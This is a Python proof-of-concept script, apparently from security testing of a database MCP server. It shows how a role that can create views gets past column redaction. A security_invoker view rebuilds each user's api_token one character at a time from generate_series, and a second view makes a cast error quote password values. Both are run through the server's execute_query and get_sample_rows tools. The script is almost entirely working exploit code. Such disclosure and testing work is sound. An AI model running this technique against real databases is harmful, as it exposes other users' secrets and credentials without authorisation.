"""A role that can create a view (its own schema) reads every secret in clear through the
server: a security_invoker view filters on the sensitive column in WHERE, and its output
columns come from generate_series, not from the column. Usage: redact_view.py [reader|postgres]"""
import asyncio
import json
import sys

from common import DSN, as_role, tool
from mcpclient import connect, execute

VIEW = """
DROP VIEW IF EXISTS atk.vx;
CREATE VIEW atk.vx WITH (security_invoker = true) AS
  SELECT u.name, i AS pos, pg_catalog.chr(c) AS ch
  FROM public.users u, pg_catalog.generate_series(1, 64) i, pg_catalog.generate_series(32, 126) c
  WHERE pg_catalog.ascii(pg_catalog.substr(u.api_token, i, 1)) = c;
"""
# The same role's view that only filters on the column: the cast error quotes the value, and
# the error is not scrubbed (no output of the query is sensitive).
VIEW_ERR = """
DROP VIEW IF EXISTS atk.ve;
CREATE VIEW atk.ve WITH (security_invoker = true) AS
  SELECT name FROM public.users WHERE password::int > 0;
"""
SQL = "SELECT name, string_agg(ch, '' ORDER BY pos) AS recovered FROM atk.vx GROUP BY name"

async def main(role: str) -> None:
    await execute(as_role("attacker"), VIEW + VIEW_ERR)
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql=SQL)
        print(ok, json.dumps(body.get("rows", body))[:400])
        ok, body = await tool(c, "get_sample_rows", table_name="vx", schema_name="atk", limit=5)
        print("sample:", ok, json.dumps(body)[:300])
        ok, body = await tool(c, "execute_query", sql="SELECT * FROM atk.ve")
        print("error through a view:", ok, json.dumps(body.get("error", body))[:300])

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader"))
